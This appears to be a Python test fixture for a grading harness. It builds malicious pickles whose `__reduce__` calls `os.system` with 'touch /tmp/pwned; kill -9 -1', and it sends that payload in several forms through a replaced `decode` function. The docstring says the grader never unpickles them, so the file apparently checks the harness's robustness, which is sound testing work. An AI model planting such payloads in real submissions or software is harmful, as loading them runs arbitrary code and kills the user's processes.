"""Returns pickles that run code where they are loaded, in every shape bytes can take.

Nothing on the grading side unpickles; bytes stay bytes, and no array of objects crosses.
"""

import os
import pickle

import numpy as np

HONEST = 8  # only decode is replaced


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned; kill -9 -1",)


PAYLOAD = pickle.dumps(Run())
TURNS = iter(range(10**9))


def decode(vectors, vocabulary):
    forms = [PAYLOAD, np.frombuffer(PAYLOAD, dtype="u1"), np.array([PAYLOAD]), Run(), [Run()]]
    return forms[next(TURNS) % len(forms)]


def __getstate__():
    return PAYLOAD
